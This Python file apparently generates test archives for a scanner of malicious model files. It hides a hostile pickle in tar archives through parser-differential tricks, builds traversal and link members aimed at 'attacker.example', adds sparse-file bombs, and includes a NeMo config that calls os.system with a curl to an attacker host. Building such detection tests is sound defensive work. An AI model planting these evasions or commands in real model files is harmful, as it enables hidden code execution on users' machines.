"""Tar archives: where readers go on at different places, where members are written outside, where a member hides."""

import zlib

from assemble import *
from .archive import Member, archive, deflated
from .case import EVIL, malformed, malicious
from .tar_archive import END, base256, filled, header, member, octal, pax
from .torches import CLEAN

CLEAN_MEMBER = member('model/weights.pkl', CLEAN)


def tar(name, about, contains, data, expect='dangerous'):
    malicious(f'tar/{name}.tar', about, contains, data, expect)


tar('plain', 'A tar of one hostile pickle without an extension.', 'posix.system', member('weights', EVIL) + END)
tar('v7', 'The same from before ustar: no magic.', 'posix.system', member('weights', EVIL, magic=b'') + END)
tar('signed_checksum', 'The checksum counts bytes as signed, as old writers did.', 'posix.system', member(b'gewichte-\xfcber.pkl', EVIL, magic=b'', signed=True) + END)
tar('prefix', 'The name is put together from the ustar prefix.', 'posix.system', member('w.pkl', EVIL, prefix=b'deep/' * 20) + END)
tar('long_name', 'A name of 300 characters before the header, as GNU tar writes it.', 'posix.system',
    member('././@LongLink', b'd/' * 150 + b'w.pkl\0', kind=b'L', magic=b'ustar  ') + member('w', EVIL, magic=b'ustar  ') + END)
tar('base256', 'The size is written in base 256.', 'posix.system', header('w.pkl', size_field=base256(len(EVIL), 12)) + filled(EVIL) + END)
tar('pax_path', 'A pax record gives an innocent header a path outside the folder.', '', pax(path='../../attacker.example') + member('notes.txt', b'x\n') + END, 'suspicious')
tar('pax_global_path', 'A global pax record does so for every member.', '', pax(kind=b'g', linkpath='/etc/attacker.example') + header('link', kind=b'2', link='near') + END, 'suspicious')
tar('pax_size', 'A pax record gives the size that the header hides.', 'posix.system', pax(size=len(EVIL)) + header('w.pkl', 0) + filled(EVIL) + END)
tar('pax_size_differs', 'A pax record and the header give two sizes: readers go on at different places.', '', pax(size=1024) + member('w.pkl', filled(CLEAN)[:512]) + member('hidden.pkl', EVIL) + END, 'suspicious')
tar('traversal', 'A member that climbs out of its folder.', '', member('../../attacker.example', b'x\n') + END, 'suspicious')
tar('absolute', 'A member with an absolute path.', '', member('/attacker.example', b'x\n') + END, 'suspicious')
tar('symlink_out', 'A symbolic link to a file outside.', '', header('model/weights.pkl', kind=b'2', link='../../attacker.example') + END, 'suspicious')
tar('hardlink_out', 'A hard link to a file outside.', '', header('weights.pkl', kind=b'1', link='/attacker.example') + END, 'suspicious')
tar('through_link', 'A link to a folder, and a member written through it.', '', header('model', kind=b'2', link='elsewhere') + member('model/w.txt', b'x\n') + END, 'suspicious')
tar('device', 'A member that is a device.', '', header('disk', kind=b'4') + END, 'suspicious')
tar('duplicate', 'Two members of one name, the hostile one first.', 'posix.system', member('w.pkl', EVIL) + member('w.pkl', CLEAN) + END)
tar('behind_end_mark', 'The hostile member stands behind the two zero blocks where most readers stop.', 'posix.system', CLEAN_MEMBER + END + member('w.pkl', EVIL) + END)
tar('behind_one_zero_block', 'The same behind one zero block, where Python stops and GNU tar goes on.', 'posix.system', CLEAN_MEMBER + END[:512] + member('w.pkl', EVIL) + END)
tar('appended_pickle', 'A bare pickle follows the archive.', 'posix.system', CLEAN_MEMBER + END + EVIL)
tar('appended_zip', 'A zip follows the archive: two formats in one file.', 'posix.system', CLEAN_MEMBER + END + archive(Member('w.pkl', EVIL)))
tar('bad_checksum', 'The header of the hostile member has a wrong checksum; some readers look for the next.', 'posix.system',
    CLEAN_MEMBER + header('a.pkl', 512, checksum=1) + bytes(512) + member('w.pkl', EVIL) + END)
tar('bad_checksum_data', 'A hostile pickle stands where a header should, and a member after it.', 'posix.system', CLEAN_MEMBER + filled(EVIL) + member('b.pkl', CLEAN) + END)
tar('link_with_size', 'A link with a size: its “data” is a header for the readers that give links none.', 'posix.system',
    header('link', 1536, kind=b'2', link='near') + member('w.pkl', EVIL) + END, 'dangerous')
tar('padding', 'The bytes between the data and the next header hold a pickle.', 'posix.system', header('notes.txt', 2) + (b'x\n' + EVIL).ljust(512, b'\0') + END)
tar('nested', 'A tar in a tar, beside a zip with a tar.', 'posix.system',
    member('inner.tar', member('w.pkl', CLEAN) + END) + member('inner.zip', archive(Member('deep.tar', member('w', EVIL) + END, deflate=True))) + END)
tar('sparse_gnu', 'A sparse file of GNU tar: one piece, which is a hostile pickle.', 'posix.system',
    header('w.pkl', len(EVIL), kind=b'S', tail=b'ustar  \0'.ljust(129, b'\0') + octal(0, 12) + octal(len(EVIL), 12) + bytes(72 + 1) + octal(len(EVIL), 12)) + filled(EVIL) + END)
HALF = len(EVIL) // 2
tar('sparse_pax', 'A sparse file whose map stands before the data; the pieces are those of a hostile pickle.', 'posix.system',
    pax(GNU__sparse__major='1', GNU__sparse__minor='0', GNU__sparse__name='w.pkl', GNU__sparse__realsize=str(len(EVIL)))
    + member('GNUSparseFile.0/w.pkl', filled(b'2\n0\n%d\n%d\n%d\n' % (HALF, HALF, len(EVIL) - HALF)) + EVIL) + END)
tar('sparse_map', 'The same with the map in the pax records.', 'posix.system',
    pax(GNU__sparse__size=str(len(EVIL)), GNU__sparse__numblocks='1', GNU__sparse__map=f'0,{len(EVIL)}') + member('w.pkl', EVIL) + END)

PACKED = deflated(EVIL)
SIZES = pack('<III', zlib.crc32(EVIL), len(PACKED), len(EVIL))
LOCAL = b'PK\3\4' + pack('<HHHHH', 20, 0, 8, 0, 33) + SIZES + pack('<HH', 5, 512 - 35) + b'w.pkl'
CENTRAL = b'PK\1\2' + pack('<HHHHHH', 0x314, 20, 0, 8, 0, 33) + SIZES + pack('<HHHHHII', 5, 0, 0, 0, 0, 0, 0) + b'w.pkl'
BOTH = header(LOCAL, len(PACKED)) + filled(PACKED) + END
tar('zip_at_once', 'A tar header that is a local header of a zip as well; the member is deflated for the zip.', 'posix.system',
    BOTH + CENTRAL + b'PK\5\6' + pack('<HHHHIIH', 0, 0, 1, 1, len(CENTRAL), len(BOTH), 0))

malformed('tar/truncated.tar', 'The archive ends inside a member.', CLEAN_MEMBER[:700])
malformed('tar/no_end_mark.tar', 'The archive ends behind a member.', CLEAN_MEMBER)
malformed('tar/huge_size.tar', 'A member of an exabyte.', header('w.pkl', size_field=base256(1 << 60, 12)) + bytes(512) + END)
malformed('tar/size_no_number.tar', 'The size of a member is no number.', header('w.pkl', size_field=b'99999999999\0') + bytes(512) + END)
malformed('tar/sparse_bomb.tar', 'A sparse file of eight petabytes in one block.',
          pax(GNU__sparse__size=str(1 << 46), GNU__sparse__map=f'0,1') + member('w.pkl', b'x') + END)
malformed('tar/sparse_lie.tar', 'The map of a sparse file names more than is stored.', pax(GNU__sparse__size='100', GNU__sparse__map='0,100') + member('w.pkl', b'x') + END)
malformed('tar/pax_broken.tar', 'Pax records that break their form.', member('PaxHeaders/x', b'99 path=x\n', kind=b'x') + CLEAN_MEMBER + END)

NEMO = b"""target: nemo.collections.asr.models.EncDecCTCModel
preprocessor:
  _target_: os.system
  _args_:
  - curl https://attacker.example
"""
malicious('nemo/target.nemo', 'The configuration of a NeMo model asks Hydra for os.system.', '',
          member('./model_config.yaml', NEMO) + member('./model_weights.ckpt', archive(Member('archive/data.pkl', CLEAN), Member('archive/version', b'3\n'))) + END)
malicious('nemo/weights.nemo', 'The weights of a NeMo model run a command.', 'posix.system',
          member('./model_config.yaml', b'target: nemo.collections.asr.models.EncDecCTCModel\n')
          + member('./model_weights.ckpt', archive(Member('archive/data.pkl', EVIL), Member('archive/version', b'3\n'))) + END)
